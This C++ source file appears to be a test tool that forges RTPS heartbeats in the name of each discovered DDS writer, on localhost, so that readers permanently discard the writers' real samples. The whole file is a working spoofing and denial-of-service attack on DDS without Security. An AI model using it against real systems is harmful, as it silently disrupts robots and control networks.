// Sends forged RTPS messages to the participants of a graph without DDS Security: heartbeats in the
// name of each of its writers that announce samples far in the future. A reader then considers the
// writer's real samples as old, for ever.
//   forger SECONDS SEED
#include <arpa/inet.h>
#include <dds/dds.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "components/node/builtin.hpp"
#include "components/node/bus.hpp"
#include "components/node/clock.hpp"

namespace {

constexpr int participants = 24;  // whose ports are used
using Guid = std::array<std::uint8_t, 16>;

/// OMG DDSI-RTPS 2.2, 9.6.1.1: unicast ports of participant `index`, for discovery and for data.
std::array<int, 2> ports(int domain, int index) {
  const int base = 7400 + 250 * domain + 2 * index;
  return {base + 10, base + 11};
}

template <class T>
void put(std::vector<std::uint8_t>& bytes, T value) {
  for (std::size_t i = 0; i < sizeof value; ++i)
    bytes.push_back(static_cast<std::uint8_t>(std::uint64_t(value) >> (8 * i)));
}

/// RTPS 2.2, 9.4: header with the writer's GUID prefix, then HEARTBEAT (8.3.7.5), little endian.
std::vector<std::uint8_t> heartbeat(const Guid& writer, std::uint32_t first, std::uint32_t count) {
  std::vector<std::uint8_t> bytes{'R', 'T', 'P', 'S', 2, 1, 1, 16};
  bytes.insert(bytes.end(), writer.begin(), writer.begin() + 12);
  bytes.push_back(7), bytes.push_back(1), put(bytes, std::uint16_t{28});
  put(bytes, std::uint32_t{0});  // every reader
  bytes.insert(bytes.end(), writer.begin() + 12, writer.end());
  put(bytes, std::uint32_t{1}), put(bytes, first);      // first sample: 2^32 + first
  put(bytes, std::uint32_t{1}), put(bytes, first + 1);  // last sample
  put(bytes, count);
  return bytes;
}

std::vector<Guid> writers_on(const node::Entity& reader) {
  std::vector<Guid> guids;
  node::for_each_alive<dds_builtintopic_endpoint_t>(reader, [&](const auto& e, const auto&) {
    std::memcpy(guids.emplace_back().data(), &e.key, sizeof(Guid));
  });
  return guids;
}

void forge(double for_s, unsigned seed) {
  const char* domain_text = std::getenv("ERP_DOMAIN");
  const int domain = domain_text ? std::atoi(domain_text) : 0;
  const node::Entity participant = node::join("forger");
  node::Wake wake;
  const auto callback = node::wake_callback(wake);
  const node::Entity reader =
      node::make_builtin_reader(participant, DDS_BUILTIN_TOPIC_DCPSPUBLICATION, callback);
  std::this_thread::sleep_for(std::chrono::seconds(1));  // discovery
  const int socket = ::socket(AF_INET, SOCK_DGRAM, 0);
  std::mt19937 random(seed);
  std::uint32_t count = 1'000'000;
  long sent = 0;
  const auto end_ns = node::monotonic_ns() + static_cast<std::int64_t>(1e9 * for_s);
  while (node::monotonic_ns() < end_ns) {
    for (const Guid& writer : writers_on(reader)) {
      const auto message = heartbeat(writer, random() % 1'000'000, ++count);
      for (int index = 0; index < participants; ++index)
        for (const int port : ports(domain, index)) {
          sockaddr_in to{};
          to.sin_family = AF_INET;
          to.sin_port = htons(static_cast<std::uint16_t>(port));
          ::inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
          sent += ::sendto(socket, message.data(), message.size(), 0,
                           reinterpret_cast<const sockaddr*>(&to), sizeof to) > 0;
        }
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  ::close(socket);
  std::printf("sent %ld forged messages\n", sent);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  forge(std::stod(argv[1]), static_cast<unsigned>(std::stoul(argv[2])));
  return 0;
}
